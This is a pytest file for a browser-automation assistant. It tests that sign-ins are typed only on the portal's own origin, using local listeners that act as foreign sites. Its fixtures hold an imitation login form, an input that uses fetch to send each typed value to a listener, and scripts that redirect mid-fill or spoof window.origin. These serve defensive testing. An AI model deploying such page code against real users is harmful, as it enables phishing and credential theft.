"""A sign-in is typed on its portal's own origin only: another port of the same host is another."""

import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import pytest
from playwright.sync_api import Browser as PlaywrightsBrowser

from assistant.errors import AuthRefused, Verdict
from assistant.procedures.library import Library
from assistant.procedures.locators import Locator
from assistant.procedures.secret import Secret
from assistant.runner.browser import NotDone
from assistant.runner.hands import AutoHands
from assistant.runner.launch import Launch
from assistant.runner.playwright_browser import page_in
from assistant.runner.results import RunResult
from assistant.runner.stage import Patience
from assistant.session import Session
from assistant.staging import Surroundings, surroundings_of
from tests.conftest import PlayCase
from tests.threads import apart

pytestmark = pytest.mark.browser
USER, CANARY = "u-10812345", ' a&ñ %+"<\\ 漢 '
IMITATION = """<h1>Online Services</h1><form method=post>
<label>Person Code <input id=person-code></label>
<label>Password <input type=password></label><button id=sign-in>Sign in</button></form>"""


class Listener(socketserver.ThreadingTCPServer):
    """Some other site: it keeps every byte it hears, and answers with one page."""

    daemon_threads = True

    def __init__(self, host: str, page: str) -> None:
        super().__init__((host, 0), _Hearing)
        self.url = f"http://{host}:{self.server_address[1]}"
        self.page, self.heard = page, b""


class _Hearing(socketserver.BaseRequestHandler):
    server: Listener

    def handle(self) -> None:
        self.request.settimeout(5)
        self.server.heard += self.request.recv(65536)
        head = "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nConnection: close"
        self.request.sendall(f"{head}\r\n\r\n{self.server.page}".encode())


@contextmanager
def listening(host: str = "127.0.0.1", page: str = IMITATION) -> Iterator[Listener]:
    """Another site while the ``with`` block lasts."""
    with Listener(host, page) as listener:
        threading.Thread(target=listener.serve_forever, daemon=True).start()
        yield listener
        listener.shutdown()


def led_away(listener: Listener, method: str) -> Surroundings:
    """The login flow's world, whose sign-in page sends everybody to the listener."""
    around = surroundings_of(Library().flow("polimi/login").cases["happy"])
    fault: dict[str, Any] = {"fault": "foreign-redirect", "page": "/polimi/login"}
    fault |= {"method": method, "to": f"{listener.url}/polimi/login"}
    given = {"user": USER, "password": CANARY}
    patience = Patience(element=0.5, page=3)
    return replace(around, faults=(fault,), sign_in=given, patience=patience)


@pytest.mark.parametrize(("method", "at"), [("GET", "enter.online-services"), ("POST", "sign-in")])
@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.2"])
def test_the_browser_follows_to_no_other_origin(
    host: str, method: str, at: str, library: Library, tmp_path: Path
) -> None:
    with listening(host) as other:
        around = led_away(other, method)
        session = Session(library, library.flow("polimi/login"), tmp_path, surroundings=around)
        ended = apart(lambda: session.play(AutoHands(), []))

    assert (ended.verdict, ended.at) == (Verdict.AUTH, at), ended.message
    assert other.url in ended.message
    assert other.heard == b""


def test_a_page_that_looks_like_the_portals_gets_nothing(play_case: PlayCase) -> None:
    with listening() as other:  # this browser, unlike that of a run, goes to any port
        ended = play_case("polimi/login", "happy", surroundings=led_away(other, "GET"))

    assert isinstance(ended, RunResult)
    assert (ended.verdict, ended.at) == (Verdict.AUTH, "sign-in"), ended.message
    assert "nothing of it went there" in ended.message
    assert b"GET /polimi/login" in other.heard
    for told in (b"POST", USER.encode(), quote_plus(CANARY).encode(), CANARY.encode()):
        assert told not in other.heard


def test_a_field_that_turns_into_another_pages_gets_nothing(browser: PlaywrightsBrowser) -> None:
    tells = "<input oninput=\"fetch('/heard?' + encodeURIComponent(this.value))\">"
    with listening(page=tells) as other:
        leaves = f"setTimeout(() => location = '{other.url}/', 1500)"
        with listening(page=f"<input disabled><script>{leaves}</script>") as home:
            page = page_in(browser, Launch(Path(), (), action_seconds=6), lambda: None)
            page.open(home.url)
            with pytest.raises((NotDone, AuthRefused)):
                page.fill(Locator(css="input"), Secret("canary"), home.url)
            shown = page.url()
            page.page.context.close()

    assert shown == f"{other.url}/"
    assert b"canary" not in other.heard


def test_a_page_cannot_lie_about_where_it_is(browser: PlaywrightsBrowser) -> None:
    lies = "<input><script>window.origin = 'http://portal'</script>"
    with listening(page=lies) as other:
        page = page_in(browser, Launch(Path(), ()), lambda: None)
        page.open(other.url)
        with pytest.raises(AuthRefused, match="nothing of it went there"):
            page.fill(Locator(css="input"), Secret("canary"), "http://portal")
        page.page.context.close()
